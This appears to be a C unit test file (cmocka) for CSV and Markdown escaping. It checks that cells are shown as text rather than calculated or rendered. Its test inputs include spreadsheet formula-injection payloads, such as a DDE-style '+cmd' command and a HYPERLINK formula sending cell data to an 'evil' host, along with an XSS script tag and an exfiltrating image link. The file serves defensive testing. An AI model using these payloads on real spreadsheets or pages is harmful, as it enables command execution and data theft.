/* CSV and Markdown: what a cell holds is shown, never calculated, followed or run. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <string.h>

#include "base/buf.h"
#include "base/csv.h"
#include "base/markdown.h"

static void is_csv(const char *text, const char *wanted)
{
    struct buf buf;
    buf_init(&buf, 10000);
    assert_true(csv_add(&buf, text, text ? strlen(text) : 0));
    assert_string_equal(buf_get(&buf), wanted);
    buf_release(&buf);
}

static void fields_are_quoted_where_they_need_it(void **state)
{
    (void)state;
    is_csv("plain", "plain");
    is_csv(NULL, "");
    is_csv("", "\"\"");
    is_csv("a,b", "\"a,b\"");
    is_csv("a;b", "\"a;b\"");
    is_csv("a\tb", "\"a\tb\"");
    is_csv("two\nlines", "\"two\nlines\"");
    is_csv("say \"hi\"", "\"say \"\"hi\"\"\"");
    is_csv(" blank", "\" blank\"");
}

static void formulas_are_texts(void **state)
{
    (void)state;
    is_csv("=1+1", "'=1+1");
    is_csv("@SUM(A1)", "'@SUM(A1)");
    is_csv("+cmd|'/C calc'!A0", "'+cmd|'/C calc'!A0");
    is_csv("-2+3", "'-2+3");
    is_csv("-", "'-");
    is_csv("=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
           "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\"");
    is_csv("\t=1", "\"'\t=1\"");
    is_csv("\r=1", "\"'\r=1\"");
    is_csv("\n=1", "\"'\n=1\"");
    is_csv("\xEF\xBC\x9D"
           "1",
           "'\xEF\xBC\x9D"
           "1");
    is_csv("\xEF\xBC\xA0x", "'\xEF\xBC\xA0x");
    is_csv("+49 30 1234", "'+49 30 1234");
}

static void numbers_stay_numbers(void **state)
{
    (void)state;
    static const char *const numbers[] = {"-1", "+2", "-1.5", "-.5", "+1e3", "-2.5E-10"};
    for (size_t i = 0; i < sizeof numbers / sizeof numbers[0]; i++) {
        is_csv(numbers[i], numbers[i]);
    }
    static const char *const others[] = {"-1e", "-.", "-1-1", "+1.2.3", "-1e+", "--1"};
    for (size_t i = 0; i < sizeof others / sizeof others[0]; i++) {
        assert_true(csv_is_formula(others[i], strlen(others[i])));
    }
}

static void a_full_buffer_is_told(void **state)
{
    (void)state;
    struct buf buf;
    buf_init(&buf, 4);
    assert_false(csv_add(&buf, "=12345678", 9));
    buf_release(&buf);
}

static void is_markdown(const char *text, size_t size, const char *wanted)
{
    struct buf buf;
    buf_init(&buf, 10000);
    assert_true(markdown_add(&buf, text, size));
    assert_string_equal(buf_get(&buf), wanted);
    buf_release(&buf);
}

static void markdown_is_never_live(void **state)
{
    (void)state;
    static const char *const pairs[][2] = {
        {"plain snake_case 1.5", "plain snake_case 1.5"},
        {"a|b", "a\\|b"},
        {"a\\|b", "a\\\\\\|b"},
        {"![x](http://evil/?q=1)", "!\\[x\\](http`://evil/?q=1)`"},
        {"see https://evil.example", "see https`://evil.example`"},
        {"WWW.evil.example", "WWW`.evil.example`"},
        {"<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"},
        {"&lt;b&gt;", "&amp;lt;b&amp;gt;"},
        {"`code` **bold** $x$", "\\`code\\` \\*\\*bold\\*\\* \\$x\\$"},
        {"two\r\nlines", "two<br>lines"},
        {"a@evil.test", "`a@evil.test`"},
        {"(a.b+c_d@www.evil.test), mailto:x@y",
         "(`a.b+c_d@www.evil.test`), mailto:`x@y`"},
        {"xmpp:x@evil.test/room", "xmpp:`x@evil.test`/room"},
        {"`a@b.c`", "\\``a@b.c`\\`"},
        {"\\a@b.c\\", "\\\\`a@b.c`\\\\"},
        {"@name a@ 3 @ 4 a@@b", "@name a@ 3 @ 4 a@@b"},
        {"a@b@c.d|", "`a@b`@c.d\\|"},
        {"http://a.test|x www.", "http`://a.test`\\|x www`.`"},
        {"http://a.test/?x=`y` z", "http`://a.test/?x=`\\`y\\` z"},
        {"\x1b[31mred\a", "\xEF\xBF\xBD\\[31mred\xEF\xBF\xBD"},
        {"a\xE2\x80\xAE"
         "b\xE2\x80\x8B"
         "c\xF3\xA0\x81\x81",
         "a\xEF\xBF\xBD"
         "b\xEF\xBF\xBD"
         "c\xEF\xBF\xBD"},
        {"\xC3\xA4\tx\xE2\x80\x8Dy", "\xC3\xA4\tx\xE2\x80\x8Dy"},
    };
    for (size_t i = 0; i < sizeof pairs / sizeof pairs[0]; i++) {
        is_markdown(pairs[i][0], strlen(pairs[i][0]), pairs[i][1]);
    }
    is_markdown("a\0b", 3,
                "a\xEF\xBF\xBD"
                "b");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(fields_are_quoted_where_they_need_it),
        cmocka_unit_test(formulas_are_texts),
        cmocka_unit_test(numbers_stay_numbers),
        cmocka_unit_test(a_full_buffer_is_told),
        cmocka_unit_test(markdown_is_never_live),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
